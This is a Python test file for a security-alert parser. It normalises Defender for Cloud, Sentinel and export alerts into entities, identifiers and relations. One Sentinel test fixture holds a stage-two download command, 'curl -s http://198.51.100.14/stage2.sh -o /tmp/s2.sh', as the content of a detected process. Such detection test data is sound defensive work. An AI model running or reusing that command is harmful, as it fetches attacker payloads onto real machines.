"""The three shapes of a provider's alert, read from the suite's own fixtures (tests/fixtures)."""

import json

from alerts.ingest.parse import normalize, split_body

APP = ("/subscriptions/6f1c0d2e-3b4a-4c5d-8e9f-a0b1c2d3e4f5/resourceGroups/rg-payroll/"
       "providers/Microsoft.Compute/virtualMachines/payroll-app-01")
SOC_SUBSCRIPTION = "9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d"
SHARED_ID = "2516987654321098765_5a0e3d2c-7b1f-4e8a-9c6d-2f4b8a1e3c70"
DOWNLOAD_ROW, INCIDENT_ROW, WINDOWS_ROW = 3, 5, 6


def parse_arm(arm_alerts):
    body = json.dumps({"value": arm_alerts}, indent=1).encode()
    return [normalize(item.data) for item in split_body(body, "application/json")]


def parse_sentinel(body):
    return [normalize(item.data) for item in split_body(body, "application/x-ndjson")]


def test_the_arm_list_gives_two_alerts(arm_alerts):
    first, second = parse_arm(arm_alerts)
    assert (first.format, second.format) == ("arm", "arm")
    # Both share one systemAlertId, and the first id's last segment is not its name:
    # the ARM name is the key.
    assert arm_alerts[0]["properties"]["systemAlertId"] == \
        arm_alerts[1]["properties"]["systemAlertId"]
    assert not arm_alerts[0]["id"].endswith(arm_alerts[0]["name"])
    assert first.key == SHARED_ID
    assert second.key == "2516987650000000001_8e2f4a6c-0b1d-4c3e-a5f7-9d8b6a4c2e10"
    assert (first.severity, second.severity) == ("high", "medium")
    assert first.provider == "Microsoft Defender for Cloud"  # productName: no providerName
    assert first.tactics == ["Execution"]
    assert first.techniques == ["T1105", "T1059"]
    assert first.resource_id == second.resource_id == APP
    # The workspace watching the machine is in another subscription.
    assert first.workspace_subscription_id == SOC_SUBSCRIPTION
    assert (first.compromised_entity, second.compromised_entity) == \
        ("payroll-app-01", "payroll-app-02")
    assert first.provider_status == "active"
    # Seven digits of fractions, as Defender writes them.
    assert first.start_time.isoformat() == "2026-10-04T07:15:00+00:00"
    assert second.start_time.isoformat() == "2026-10-04T07:20:31.123456+00:00"
    assert first.detected_time.isoformat() == "2026-10-04T07:17:02+00:00"
    assert first.extended_links == [{"href": "https://reports.example.org/staging-servers",
                                     "label": "Report: staging servers",
                                     "category": "threat_reports", "type": "webLink"}]
    assert first.extended_properties == {"Source address": "198.51.100.23"}
    assert len(second.remediation_steps) == 3
    assert second.description.startswith("The process \u2018c:\\users\\svc-payroll")
    # Both say isIncident but list no alerts: they are kept as the alerts they are.
    assert not first.is_incident and not second.is_incident
    assert [w.code for w in first.warnings] == [w.code for w in second.warnings] == \
        ["incident_without_alerts"]
    assert first.warnings[0].field == "properties.isIncident"


def test_the_arm_entities(arm_alerts):
    first, second = parse_arm(arm_alerts)
    assert [(e.kind, e.label) for e in first.entities] == [("ip", "198.51.100.23")]
    assert first.entities[0].strong_ids == ["ip|address|198.51.100.23"]
    assert first.entities[0].original["location"]["asn"] == 64500
    assert [(e.kind, e.label) for e in second.entities] == [
        ("host", "payroll-app-02"), ("account", "payroll-app-02\\svc-payroll"),
        ("file", "cmd.exe"), ("process", "process 0x1a2b"), ("file", "upd.scr"),
        ("process", "c:\\users\\svc-payroll\\appdata\\local\\temp\\upd.scr /s")]
    assert second.relations == []  # ARM entities carry no $id/$ref
    host, account, cmd, parent, _, process = second.entities
    assert host.weak_ids == ["host|name|payroll-app-02"]
    # Empty dnsDomain and ntDomain give no name-domain identifier.
    assert host.strong_ids == [
        "host|azureid|/subscriptions/6f1c0d2e-3b4a-4c5d-8e9f-a0b1c2d3e4f5/resourcegroups/"
        "rg-payroll/providers/microsoft.compute/virtualmachines/payroll-app-02",
        "host|omsagentid|7e6d5c4b-3a29-4180-9f7e-6d5c4b3a2918"]
    assert account.strong_ids == [
        "account|sid|s-1-5-21-1111111111-2222222222-3333333333-1107",
        "account|name-ntdomain|svc-payroll|payroll-app-02"]
    assert parent.strong_ids == []  # a process known only by its id
    host_part = "payroll-app-02"  # the alert's only host
    assert cmd.strong_ids == [f"file|path|c:\\windows\\system32|cmd.exe|{host_part}"]
    assert process.strong_ids[0] == f"process|pid-time-host|12048|2026-10-04T07:20:31Z|{host_part}"
    assert host.original["hostName"] == "payroll-app-02"
    assert host.original["OsVersion"] is None


def test_the_sentinel_rows_parse(sentinel_body):
    alerts = parse_sentinel(sentinel_body)
    assert len(alerts) == 7
    assert {a.format for a in alerts} == {"sentinel"}
    assert all(a.warnings == [] for a in alerts)
    # 3 + 4 (two addresses) + 3 + 6 + 6 + the incident (0) + 2
    assert sum(len(a.entities) for a in alerts) == 24
    assert [a.severity for a in alerts] == ["low"] * 4 + ["informational", "low", "medium"]
    ssh = alerts[0]
    assert (ssh.key, ssh.provider, ssh.resource_id, ssh.compromised_entity) == (
        "a7c1e3f5-0b2d-4f6a-8c0e-1a3c5e7f9b01", "CustomAlertRule", "", "")
    assert [(e.kind, e.ref_id, e.label) for e in ssh.entities] == [
        ("ip", "3", "198.51.100.14"), ("host", "4", "lnx-build-03"), ("account", "5", "deploybot")]
    assert ssh.extended_properties["Total IP Entities"] == "1"
    assert ssh.remediation_steps == [] and ssh.extended_links == []  # empty strings
    assert ssh.workspace_subscription_id == SOC_SUBSCRIPTION
    # A time without an offset is UTC.
    assert ssh.start_time.isoformat() == "2026-10-05T23:40:02+00:00"
    assert [e.label for e in alerts[1].entities[:2]] == ["198.51.100.14", "192.0.2.200"]


def test_a_sentinel_row_links_process_host_account_and_session(sentinel_body):
    alert = parse_sentinel(sentinel_body)[DOWNLOAD_ROW]
    assert alert.display_name == "Suspicious file download"
    assert alert.resource_id.endswith("/virtualMachines/lnx-build-03")
    command = "curl -s http://198.51.100.14/stage2.sh -o /tmp/s2.sh"
    labels = [e.label for e in alert.entities]
    assert labels == ["LNX-BUILD-03", "process 0x1f2e", "deploybot", "curl", command, "0x5a1c3"]
    named = {(labels[r.source], r.type, labels[r.target]) for r in alert.relations}
    assert named == {
        ("process 0x1f2e", "runs_on", "LNX-BUILD-03"),
        ("deploybot", "refers_to", "LNX-BUILD-03"),
        (command, "image", "curl"),
        (command, "runs_as", "deploybot"),
        (command, "parent", "process 0x1f2e"),
        (command, "runs_on", "LNX-BUILD-03"),
        ("0x5a1c3", "session_host", "LNX-BUILD-03"),
        ("0x5a1c3", "session_account", "deploybot"),
    }
    assert alert.entities[4].strong_ids[0] == \
        "process|pid-time-host|8021|2026-10-06T03:12:44Z|lnx-build-03"
    assert alert.entities[5].strong_ids == [
        "host-logon-session|session-host-time|0x5a1c3|lnx-build-03|2026-10-06T02:55:10Z"]
    assert alert.entities[2].weak_ids == ["account|name|deploybot|lnx-build-03"]
    assert alert.entities[2].strong_ids == []  # Sid "1001:1001" is a Linux uid, not a SID
    assert alert.remediation_steps[0].startswith("Ask deploybot's owner")
    assert alert.extended_properties["Account Session Id"] == "0x5a1c3"


def test_the_sentinel_incident_lists_its_alerts(sentinel_body):
    incident = parse_sentinel(sentinel_body)[INCIDENT_ROW]
    assert incident.is_incident
    assert incident.entities == []
    assert incident.incident_alert_ids == [
        "2516970000000000101_a1b2c3d4-0001-4e5f-8a9b-0c1d2e3f4a01",
        "2516970000000000102_a1b2c3d4-0002-4e5f-8a9b-0c1d2e3f4a02",
        "2516970000000000103_a1b2c3d4-0003-4e5f-8a9b-0c1d2e3f4a03"]


def test_the_windows_host_row_carries_strong_ids(sentinel_body):
    alert = parse_sentinel(sentinel_body)[WINDOWS_ROW]
    assert alert.severity == "medium"  # from AlertSeverity, the table's own column
    host, account = alert.entities
    assert host.strong_ids[1] == "host|omsagentid|5d6e7f80-91a2-4b3c-8d4e-5f60718293a4"
    assert account.strong_ids == ["account|name-ntdomain|mkowalski|win-fin-07"]
    assert account.label == "win-fin-07\\mkowalski"


def test_the_export_alert_resolves_reused_ids_and_keeps_dangling_links(export_alert):
    [item] = split_body(json.dumps(export_alert).encode(), "application/json")
    alert = normalize(item.data)
    assert alert.format == "export"
    assert alert.provider == "Microsoft Defender for Cloud"
    assert alert.tactics == ["DefenseEvasion", "Execution"]
    # No AzureResourceId column: the resource and workspace come from ResourceIdentifiers.
    assert alert.resource_id.endswith("/virtualMachines/ledger-db-02")
    assert alert.workspace_subscription_id == SOC_SUBSCRIPTION
    assert [(e.kind, e.ref_id) for e in alert.entities] == [
        ("host", "2"), ("account", "3"), ("ip", "3"), ("process", "4"), ("file", "5"),
        ("filehash", "6"), ("dns", "7"), ("host-logon-session", "10")]
    assert [(w.code, w.field) for w in alert.warnings] == [
        ("duplicate_id", "Entities"),
        ("forward_reference", "Entities[4].FileHashes"),
        ("dangling_reference", "Entities[3].ParentProcess"),
        ("ref_in_entity_list", "Entities")]
    edges = {(r.source, r.target, r.type, r.prop) for r in alert.relations}
    assert edges == {
        (1, 0, "refers_to", "Host"),
        (3, 0, "runs_on", "Host"),
        (3, 1, "runs_as", "Account"),  # $id 3 nearest before is the ip: the account fits
        (3, 4, "image", "ImageFile"),  # inline
        (4, 5, "has_hash", "FileHashes"),  # defined later
        (3, None, "parent", "ParentProcess"),  # nothing defines $id 9
        (6, 2, "resolves_to", "IpAdresses"),  # misspelt, and $id 3 of the right kind
        (7, 1, "session_account", "Account"),
        (7, 0, "session_host", "Host"),
    }
    dangling = next(r for r in alert.relations if r.target is None)
    assert dangling.target_ref == "9"
    rundll = alert.entities[3]
    assert rundll.strong_ids[0] == "process|pid-time-host|5120|2026-10-05T22:14:09Z|ledger-db-02"
    assert alert.entities[4].strong_ids == \
        ["file|path|c:\\windows\\system32|rundll32.exe|ledger-db-02"]
